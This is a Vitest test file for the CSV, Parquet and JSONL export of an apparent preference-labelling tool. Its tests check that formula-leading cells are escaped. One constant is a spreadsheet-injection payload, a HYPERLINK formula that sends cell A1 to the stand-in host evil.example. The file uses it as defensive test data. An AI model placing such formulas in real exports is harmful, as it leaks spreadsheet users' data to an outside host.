import { createHash } from "node:crypto";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ParquetReader } from "@dsnp/parquetjs";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { errorOf, runCli, setUpTempDatabase } from "./helpers";

const { dir, dbPath } = setUpTempDatabase();
const { connection, closeConnection } = await import("~/services/database.server");
const { importFile } = await import("~/services/imports.server");
const { createBatch } = await import("~/services/batches.server");
const { nextAssignment } = await import("~/services/assignments.server");
const { submitJudgment } = await import("~/services/judgments.server");
const { streamExportFile, exportFileDownload } = await import("~/services/export-files.server");
const { TABULAR_COLUMNS, tabularColumns } = await import("~/core/formats/export/tabular");
const { EXPORT_FORMATS } = await import("~/core/formats/export/mappers");
const { exportCardFor } = await import("~/services/export-files.server");

afterAll(() => closeConnection());
const sqlite = () => connection().sqlite;

/** Texts a spreadsheet would run as formulas, as a model might write them. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const FORMULA_TEXTS = [HYPERLINK, "+1", "-2", "@SUM(A1:A3)"];

let batchId = "";

async function exportBytes(options: Record<string, unknown>): Promise<{ bytes: Buffer; result: { id: string; rows: number; bytes: number; sha256: string } }> {
  let result: { id: string; rows: number; bytes: number; sha256: string } | null = null;
  const parts: Buffer[] = [];
  for await (const chunk of streamExportFile(batchId, options, { onDone: (r) => (result = r) })) parts.push(Buffer.from(chunk));
  return { bytes: Buffer.concat(parts), result: result! };
}
const jsonlRows = async (options: Record<string, unknown>) =>
  (await exportBytes({ ...options, file_format: "jsonl" })).bytes.toString("utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);

async function parquetRows(bytes: Buffer): Promise<Record<string, unknown>[]> {
  const file = join(dir, `read-${createHash("sha256").update(bytes).digest("hex").slice(0, 8)}.parquet`);
  writeFileSync(file, bytes);
  const reader = await ParquetReader.openFile(file);
  try {
    const cursor = reader.getCursor();
    const rows: Record<string, unknown>[] = [];
    for (let row = await cursor.next(); row; row = await cursor.next()) rows.push(row as Record<string, unknown>);
    return rows;
  } finally {
    await reader.close();
  }
}

beforeAll(async () => {
  const insert = sqlite().prepare("INSERT INTO users (id, username, display_name, role, password_hash, created_at) VALUES (?, ?, ?, 'reviewer', 'x', 0)");
  for (const name of ["ann", "ben"]) insert.run(`id-${name}`, name, name);
  // TRL's string form: the prompt and both completions are kept verbatim, so the formula texts reach the cells as they are.
  const lines = FORMULA_TEXTS.map((text, i) => JSON.stringify({ prompt: i === 0 ? "=1+1" : `Question ${i}, with "quotes", commas\nand a line break`, chosen: text, rejected: `plain ${i}` }));
  writeFileSync(join(dir, "formulas.jsonl"), lines.join("\n"));
  await importFile(join(dir, "formulas.jsonl"), { dataset: "formulas" });
  batchId = createBatch({ dataset: "formulas", name: "Formula cells", task: "pairwise", overlap: 2, reviewers: ["ann", "ben"] }).id;
  for (const reviewer of ["id-ann", "id-ben"]) {
    for (let n = 0; ; n++) {
      const assignment = nextAssignment(batchId, reviewer);
      if (!assignment) break;
      const order = JSON.parse((sqlite().prepare("SELECT response_ids FROM items WHERE id = ?").get(assignment.item_id) as { response_ids: string }).response_ids) as string[];
      submitJudgment(assignment.id, reviewer, { client_id: `${reviewer}-${n}`, preferred: order[0], strength: 2, rationale: n === 0 ? "-2 for the other" : "" });
    }
  }
});

describe("CSV", () => {
  it("has a header row, and its rows are the JSONL rows with formula cells escaped", async () => {
    const options = { format: "trl-preference", consensus: "all" };
    const expected = await jsonlRows(options);
    expect(expected.length).toBe(8);
    const { bytes } = await exportBytes({ ...options, file_format: "csv" });
    const text = bytes.toString("utf8");
    expect(text.startsWith("prompt,chosen,rejected\r\n")).toBe(true);
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(expected.length);
    const escape = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    expect(records).toEqual(expected.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, escape(v as string)]))));
    const cells = records.flatMap((r) => Object.values(r));
    expect(cells).toContain(`'${HYPERLINK}`);
    expect(cells).toContain("'+1");
    expect(cells).toContain("'-2");
    expect(cells).toContain("'@SUM(A1:A3)");
    expect(cells).toContain("'=1+1");
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  it("writes nested values as one JSON cell each", async () => {
    const options = { format: "judgments" };
    const expected = await jsonlRows(options);
    const records = parse((await exportBytes({ ...options, file_format: "csv" })).bytes.toString("utf8"), { columns: true }) as Record<string, string>[];
    expect(Object.keys(records[0]!)).toEqual(TABULAR_COLUMNS.judgments.map((c) => c.name));
    const columns = TABULAR_COLUMNS.judgments;
    expect(
      records.map((r) =>
        Object.fromEntries(
          columns.map((c) => {
            const cell = r[c.name]!;
            if (c.kind === "json") return [c.name, JSON.parse(cell)];
            if (c.kind === "integer") return [c.name, cell === "" ? null : Number(cell)];
            if (c.kind === "boolean") return [c.name, cell === "true"];
            return [c.name, cell.startsWith("'") ? cell.slice(1) : cell];
          }),
        ),
      ),
    ).toEqual(expected);
    expect(records.map((r) => r.rationale)).toContain("'-2 for the other");
  });

  it("an export with no rows is the header alone", async () => {
    // Every item gold, and gold left out: no rows at all.
    sqlite().prepare("UPDATE items SET is_gold = 1 WHERE batch_id = ?").run(batchId);
    try {
      const empty = await exportBytes({ format: "trl-kto", file_format: "csv" });
      expect(empty.result.rows).toBe(0);
      expect(empty.bytes.toString("utf8")).toBe("prompt,completion,label\r\n");
      const emptyParquet = await exportBytes({ format: "trl-kto", file_format: "parquet" });
      expect(await parquetRows(emptyParquet.bytes)).toEqual([]);
    } finally {
      sqlite().prepare("UPDATE items SET is_gold = 0 WHERE batch_id = ?").run(batchId);
    }
  });
});

describe("Parquet", () => {
  it("read back with an independent reader (@dsnp/parquetjs), its rows are the JSONL rows", async () => {
    for (const format of ["trl-preference", "trl-preference-chat", "trl-reward", "trl-kto", "judgments"]) {
      const options = { format, consensus: "all" };
      const expected = await jsonlRows(options);
      const { bytes, result } = await exportBytes({ ...options, file_format: "parquet" });
      expect(bytes.subarray(0, 4).toString("latin1")).toBe("PAR1");
      expect(result.rows).toBe(expected.length);
      const rows = await parquetRows(bytes);
      const normalised = rows.map((row) =>
        Object.fromEntries(TABULAR_COLUMNS[format as keyof typeof TABULAR_COLUMNS].map((c) => [c.name, typeof row[c.name] === "bigint" ? Number(row[c.name]) : (row[c.name] ?? null)])),
      );
      expect(normalised, format).toEqual(expected);
    }
  });
});

describe("every format in every file format", () => {
  it("Parquet and CSV carry the same rows as JSONL, with the option-dependent columns (--with-ids, --with-text)", async () => {
    for (const format of EXPORT_FORMATS) {
      const judgmentsLike = format === "judgments" || format === "rankings";
      const options = { format, consensus: format.startsWith("trl-sft") ? "majority" : "all", ...(judgmentsLike ? { with_text: true } : { with_ids: true }) };
      const columns = tabularColumns(format, { withIds: !judgmentsLike, withText: judgmentsLike });
      const expected = await jsonlRows(options);
      expect(expected.length, format).toBeGreaterThan(0);
      const parquet = await parquetRows((await exportBytes({ ...options, file_format: "parquet" })).bytes);
      expect(
        parquet.map((row) => Object.fromEntries(columns.map((c) => [c.name, typeof row[c.name] === "bigint" ? Number(row[c.name]) : (row[c.name] ?? null)]))),
        format,
      ).toEqual(expected);
      const csv = parse((await exportBytes({ ...options, file_format: "csv" })).bytes.toString("utf8"), { columns: true }) as Record<string, string>[];
      expect(Object.keys(csv[0]!), format).toEqual(columns.map((c) => c.name));
      expect(csv, format).toHaveLength(expected.length);
    }
  }, 60_000);

  it("a dataset card describes the file of its file format: its name and its sha256", async () => {
    const { card, fileName } = await exportCardFor(batchId, { format: "trl-preference", file_format: "csv" });
    const csv = await exportBytes({ format: "trl-preference", file_format: "csv" });
    expect(fileName).toBe("formula-cells.trl-preference.csv.README.md");
    expect(card).toContain("path: formula-cells.trl-preference.csv");
    expect(card).toContain(csv.result.sha256);
  });
});

describe("recording and downloads", () => {
  it("records every file format with the sha256 of its own bytes and the file format among the options", async () => {
    for (const fileFormat of ["csv", "parquet"]) {
      const { bytes, result } = await exportBytes({ format: "hh-rlhf", file_format: fileFormat });
      expect(result.sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
      expect(result.bytes).toBe(bytes.length);
      const row = sqlite().prepare("SELECT format, options, row_count, sha256 FROM exports WHERE id = ?").get(result.id) as { format: string; options: string; row_count: number; sha256: string };
      expect(row).toMatchObject({ format: "hh-rlhf", row_count: result.rows, sha256: result.sha256 });
      expect(JSON.parse(row.options)).toMatchObject({ file_format: fileFormat });
    }
  });

  it("a consumer that stops early records nothing", async () => {
    const before = (sqlite().prepare("SELECT COUNT(*) AS n FROM exports").get() as { n: number }).n;
    for await (const _chunk of streamExportFile(batchId, { format: "trl-preference", file_format: "parquet" })) break;
    expect((sqlite().prepare("SELECT COUNT(*) AS n FROM exports").get() as { n: number }).n).toBe(before);
  });

  it("downloads carry the file format's type and extension; a bad file format is a field error", async () => {
    const csv = exportFileDownload(batchId, { format: "hh-rlhf", file_format: "csv" });
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-disposition")).toBe('attachment; filename="formula-cells.hh-rlhf.csv"');
    expect((await csv.text()).startsWith("chosen,rejected\r\n")).toBe(true);
    const parquet = exportFileDownload(batchId, { format: "hh-rlhf", file_format: "parquet" });
    expect(parquet.headers.get("content-type")).toBe("application/vnd.apache.parquet");
    expect(parquet.headers.get("content-disposition")).toBe('attachment; filename="formula-cells.hh-rlhf.parquet"');
    expect((await parquetRows(Buffer.from(await parquet.arrayBuffer()))).length).toBeGreaterThan(0);
    const jsonl = exportFileDownload(batchId, { format: "hh-rlhf" });
    expect(jsonl.headers.get("content-disposition")).toBe('attachment; filename="formula-cells.hh-rlhf.jsonl"');
    await jsonl.body?.cancel();
    const failure = errorOf(() => exportFileDownload(batchId, { format: "hh-rlhf", file_format: "xlsx" }));
    expect(failure.code).toBe("invalid");
    expect(failure.details?.fields).toHaveProperty("file_format");
  });
});

describe("CLI", () => {
  it("--file-format parquet without --out is a usage error", async () => {
    const result = await runCli(["export", "--batch", batchId, "--format", "hh-rlhf", "--file-format", "parquet"], { env: { VERDICT_DB: dbPath } });
    expect(result.status).toBe(2);
    expect(result.stderr).toContain("--file-format parquet writes a binary file; give --out FILE");
    expect(result.stdout).toBe("");
  });

  it("--file-format csv --out x.csv writes the CSV; a refused option writes no file", async () => {
    const out = join(dir, "x.csv");
    const result = await runCli(["export", "--batch", batchId, "--format", "trl-preference", "--consensus", "all", "--file-format", "csv", "--out", out, "--json"], { env: { VERDICT_DB: dbPath } });
    expect(result.status, result.stderr).toBe(0);
    const summary = JSON.parse(result.stdout) as { rows: number; sha256: string; file: string };
    const bytes = readFileSync(out);
    expect(summary.sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
    const records = parse(bytes.toString("utf8"), { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(summary.rows);
    expect(records.map((r) => r.chosen)).toContain(`'${HYPERLINK}`);
    const refused = join(dir, "refused.csv");
    const bad = await runCli(["export", "--batch", batchId, "--format", "trl-preference", "--file-format", "xlsx", "--out", refused], { env: { VERDICT_DB: dbPath } });
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain("file_format");
    expect(existsSync(refused)).toBe(false);
  });

  it("--file-format parquet --out x.parquet writes a file another reader opens", async () => {
    const out = join(dir, "x.parquet");
    const result = await runCli(["export", "--batch", batchId, "--format", "trl-preference-chat", "--file-format", "parquet", "--out", out], { env: { VERDICT_DB: dbPath } });
    expect(result.status, result.stderr).toBe(0);
    const reader = await ParquetReader.openFile(out);
    expect(Number(reader.getRowCount())).toBeGreaterThan(0);
    await reader.close();
  });
});
